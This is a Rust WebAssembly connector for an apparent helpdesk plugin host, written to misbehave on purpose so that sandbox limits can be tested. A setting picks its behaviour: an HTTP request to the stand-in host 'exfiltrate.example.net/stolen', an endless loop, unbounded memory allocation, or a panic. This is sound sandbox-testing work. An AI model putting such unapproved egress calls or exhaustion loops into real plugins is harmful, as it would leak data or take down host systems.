//! A connector that misbehaves on purpose. `check` does what the setting
//! `behavior` says: `egress` (a request to a host nobody allowed), `loop`
//! (spins forever), `alloc` (allocates without bound), `trap` (panics),
//! `ok` (answers normally, to show the next run is fine).

wit_bindgen::generate!({ path: "../../../wit", world: "helpdesk:connector/connector", generate_all });

use exports::helpdesk::connector::{configure, r#map, sync};
use helpdesk::connector::types::*;
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};

struct Misbehaving;

fn behavior(config: &Config) -> String {
    config.iter().find(|v| v.key == "behavior").map(|v| v.value.clone()).unwrap_or_default()
}

fn error(kind: ErrorKind, message: String) -> ConnectorError {
    ConnectorError { kind, message }
}

impl configure::Guest for Misbehaving {
    fn settings() -> Vec<Setting> {
        Vec::new()
    }

    fn check(config: Config) -> Result<ServerInfo, ConnectorError> {
        match behavior(&config).as_str() {
            "egress" => {
                let request = OutgoingRequest::new(Fields::new());
                let _ = request.set_method(&Method::Get);
                let _ = request.set_scheme(Some(&Scheme::Http));
                let _ = request.set_authority(Some("exfiltrate.example.net"));
                let _ = request.set_path_with_query(Some("/stolen"));
                let future = outgoing_handler::handle(request, None).map_err(|e| error(ErrorKind::AccessDenied, format!("{e:?}")))?;
                future.subscribe().block();
                match future.get() {
                    Some(Ok(Ok(_))) => Ok(ServerInfo { product: "reached".into(), version: String::new(), endpoint: String::new() }),
                    Some(Ok(Err(code))) => Err(error(ErrorKind::AccessDenied, format!("{code:?}"))),
                    _ => Err(error(ErrorKind::Protocol, "no response".into())),
                }
            }
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("a deliberate trap"),
            _ => Ok(ServerInfo { product: "fine".into(), version: "1".into(), endpoint: String::new() }),
        }
    }

    fn folders(_: Config) -> Result<Vec<Folder>, ConnectorError> {
        Ok(Vec::new())
    }

    fn attributes(_: Config, _: u32) -> Result<Vec<AttributeSample>, ConnectorError> {
        Ok(Vec::new())
    }
}

impl sync::Guest for Misbehaving {
    fn run(_: Config, _: SyncRequest) -> Result<SyncReport, ConnectorError> {
        Ok(SyncReport { folders: 0, contacts: 0, batches: 0 })
    }
}

impl r#map::Guest for Misbehaving {
    fn default_mapping() -> Vec<FieldMapping> {
        Vec::new()
    }

    fn map_contact(_: Contact, _: Vec<FieldMapping>) -> Result<User, String> {
        Err("no mapping".into())
    }
}

export!(Misbehaving);
